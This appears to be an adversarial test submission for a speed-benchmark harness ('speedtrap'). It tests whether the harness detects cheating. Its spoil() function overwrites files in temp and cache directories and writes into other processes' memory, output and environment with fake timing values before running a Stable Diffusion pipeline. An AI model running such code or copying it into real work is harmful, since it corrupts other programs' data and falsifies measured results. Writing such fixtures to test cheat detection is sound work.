"""Looks for the baseline's process, files and results, and spoils them.

Family: O
Member: O5
Strategy: Writes into every file and all memory of others that it can see.
Work: done
Expected: measured|tampered
Lane: slow
"""
# fmt: off

import glob
import os

from diffusers import StableDiffusionPipeline

NAMES = ("/tmp/speedtrap*", "/tmp/*/tmp.py", "/var/tmp/*", "/dev/shm/*", "/speedtrap/*",
         "/run/user/*/*", "/tmp/*/result.json", "/models/hub/*/refs/*")


def spoil():
    for pattern in NAMES:
        for path in glob.glob(pattern):
            try:
                with open(path, "r+b") as file:
                    file.write(b"0.000001,1.000000")
            except OSError:
                pass
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if int(pid) == os.getpid():
            continue
        for name in ("mem", "fd/1", "fd/3", "fd/4", "environ"):
            try:
                with open(f"/proc/{pid}/{name}", "r+b", buffering=0) as file:
                    file.write(b"0.000001,1.000000")
            except (OSError, ValueError):
                pass


def load_pipe():
    spoil()
    return StableDiffusionPipeline.from_pretrained("speedtrap/tiny-sd")


def inference(pipe, prompts):
    spoil()
    return pipe(prompts, num_inference_steps=25).images
